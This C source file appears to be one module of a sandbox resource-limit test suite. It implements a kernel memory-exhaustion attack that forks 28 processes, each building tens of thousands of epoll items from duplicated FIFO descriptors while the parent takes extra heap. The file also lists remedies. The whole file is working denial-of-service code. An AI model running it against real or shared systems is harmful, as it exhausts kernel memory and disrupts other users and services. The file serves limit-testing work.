// SPDX-License-Identifier: MIT
/*
 * epoll-items.c - a memory bomb of everybody who is to be told.
 *
 * Goal: more of the kernel's memory than the budget, with few descriptors.
 * Means: an epoll set remembers files by number: the same file under another number is another
 * item, and an item stays when its number is closed, while the file is open under any. With 20 sets
 * and 40 files, each under all numbers above its own, the 60 descriptors of a process make 16400
 * items, and each is some 280 bytes. 28 children make half a million: no limit adds them up, and
 * the parent takes what it may have besides.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/epoll.h>
#include <sys/stat.h>
#include <unistd.h>

enum { CHILDREN = 28, HEAP_MIB = 245 };
enum { SETS = 20, FIRST = 4, FILES = 40, END = FIRST + SETS + FILES };

/* Each set is to tell of the file behind this number. */
static void enter(int number)
{
	struct epoll_event never = { 0 };

	for (int set = FIRST; set < FIRST + SETS; set++)
		if (epoll_ctl(set, EPOLL_CTL_ADD, number, &never))
			_exit(errno);
}

/* A FIFO open both ways has two queues to stand in. The sets come first: they are closed first. */
static _Noreturn void hoard(const char *fifo, int full)
{
	alarm(5); /* whatever becomes of the parent */
	if (dup2(full, FIRST - 1) < 0)
		_exit(errno);
	close_range(FIRST, ~0U, 0);
	for (int i = 0; i < SETS; i++)
		if (epoll_create1(0) < 0)
			_exit(errno);
	for (int file; (file = open(fifo, O_RDWR)) >= 0 && file < END;) {
		enter(file);
		for (int number = file + 1; number < END; number++) {
			if (dup2(file, number) < 0)
				_exit(errno);
			enter(number);
			close(number);
		}
	}
	_exit(write(FIRST - 1, "f", 1) == 1 && sleep(2));
}

static enum claim run(const struct brief *b)
{
	pid_t child[CHILDREN];
	enum claim claim;
	char name[32], byte;
	int full[2], n = 0, told = 0;

	if (pipe(full))
		return failed("pipe");
	attempting(b);
	for (; n < CHILDREN; n++) {
		snprintf(name, sizeof(name), "f%d", n);
		if (mkfifo(name, 0600) || (child[n] = fork()) < 0)
			break;
		if (child[n] == 0)
			hoard(name, full[1]);
	}
	claim = n < CHILDREN ? denied("mkfifo or fork") : CLAIM_DONE;
	close(full[1]);
	/* After the forks, so that no child has a share in it. */
	if (claim == CLAIM_DONE && !take_heap(HEAP_MIB << 20))
		claim = denied("malloc");
	while (claim == CLAIM_DONE && told < n && read(full[0], &byte, 1) == 1)
		told++;
	if (claim == CLAIM_DONE)
		claim = told < n ? denied("epoll_ctl") : hold();
	while (n-- > 0)
		kill(child[n], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "epoll items: sets times files times numbers, in 28 processes, beside a heap",
	.oracle = "usage:memory",
	.id = "MEM-13",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "fs.epoll.max_user_watches; deny fork; a memory cgroup with kernel memory",
	.refs = (const char *const[]){ "epoll(7), Q0 and Q6", NULL },
	.run = run,
};
